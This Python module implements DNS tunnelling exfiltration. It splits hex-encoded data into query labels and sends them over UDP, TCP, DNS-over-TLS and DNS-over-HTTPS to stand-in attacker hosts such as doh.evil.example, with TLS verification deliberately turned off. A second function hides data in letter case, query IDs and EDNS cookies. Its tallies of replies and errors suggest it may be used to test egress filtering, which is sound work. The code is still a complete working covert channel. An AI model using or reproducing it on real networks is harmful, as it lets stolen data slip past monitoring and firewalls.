# SPDX-License-Identifier: MIT
"""A file carried out by lookups alone: its bytes are labels of the names that are asked for."""
import base64
import socket
import ssl
import struct

PIECE = 30  # bytes, of which a label holds 31 in hexadecimal
WAIT = 30
KINDS = (1, 28, 16, 10, 15, 33, 65, 255)  # A, AAAA, TXT, NULL, MX, SRV, HTTPS and ANY, in turn


def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack("!6H", 0x4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def over_udp(server, wire):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.sendto(wire, (server, 53))
        return s.recv(4096)


def over_udp_connected(server, wire):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.connect((server, 53))
        s.send(wire)
        return s.recv(4096)


def framed(s, wire):
    s.sendall(struct.pack("!H", len(wire)) + wire)
    return s.recv(4096)[2:]


def over_tcp(server, wire):
    with socket.create_connection((server, 53), timeout=WAIT) as s:
        return framed(s, wire)


def trusting(server, port, name):
    """TLS with whoever answers: an attacker knows his own server."""
    return ssl._create_unverified_context().wrap_socket(socket.create_connection((server, port), timeout=WAIT),
                                                        server_hostname=name)


def over_tls(server, wire):
    with trusting(server, 853, "dot.evil.example") as s:
        return framed(s, wire)


def https(server, name, request):
    with trusting(server, 443, name) as s:
        s.sendall(request)
        got = b""
        while piece := s.recv(4096):
            got += piece
    if not got.startswith(b"HTTP/1.1 200"):
        raise OSError(0, got[:100].decode("latin-1"))
    return got.partition(b"\r\n\r\n")[2]


def over_https(server, wire, name="doh.evil.example"):
    return https(server, name, b"POST /dns-query HTTP/1.1\r\nhost: %s\r\nconnection: close\r\ncontent-type: "
                 b"application/dns-message\r\ncontent-length: %d\r\n\r\n%s" % (name.encode(), len(wire), wire))


def over_https_get(server, wire):
    text = base64.urlsafe_b64encode(wire).rstrip(b"=")
    return https(server, "doh.evil.example", b"GET /dns-query?dns=%s HTTP/1.1\r\nhost: doh.evil.example\r\nconnection: close"
                 b"\r\n\r\n" % text)


def over_https_address(server, wire):
    """With no name in the handshake"""
    return over_https(server, wire, server)


WAYS = {f.__name__[5:]: f for f in (over_udp, over_udp_connected, over_tcp, over_tls, over_https, over_https_get,
                                    over_https_address)}


def names(data, zone):
    pieces = [data[i : i + 2 * PIECE] for i in range(0, len(data), 2 * PIECE)]
    return [f"{piece}.{i}.{zone}" for i, piece in enumerate(pieces)]


def carry(way, server, data, zone):
    """Asks for all of data (hexadecimal), however often it is refused: how many queries were replied to, how many of those
    with data, and what went wrong with the others."""
    replies, answers, errors = 0, 0, []
    for i, name in enumerate(names(data, zone)):
        try:
            reply = WAYS[way](server, query(name, KINDS[i % len(KINDS)]))
            replies += len(reply) >= 12
            answers += len(reply) >= 12 and struct.unpack("!H", reply[6:8])[0] > 0
        except OSError as e:
            errors.append(str(e))
    return {"replies": replies, "answers": answers, "errors": errors}


def spell(server, name, data):
    """data is hexadecimal: its bits are the cases of the name's letters, its bytes the ids and a cookie (RFC 7873)."""
    bits, replies, texts, asked = int(data, 16), 0, 0, 0
    for i in range(64):
        kind, spelled = KINDS[i % len(KINDS)], ""
        for c in name:
            spelled += c.upper() if bits & 1 else c
            bits = bits >> 1 | (bits & 1) << 63
        wire = bytearray(query(spelled, kind))
        wire[:2] = bytes.fromhex(data)[i % 7 : i % 7 + 2]
        if i % 2:
            wire[11] = 1
            wire += b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 12, 10, 8) + bytes.fromhex(data)
        asked += 1
        try:
            got = over_udp(server, bytes(wire))
            replies += 1
            texts += b"from the rogue server" in got
        except OSError:
            pass
    return {"asked": asked, "replies": replies, "texts": texts}
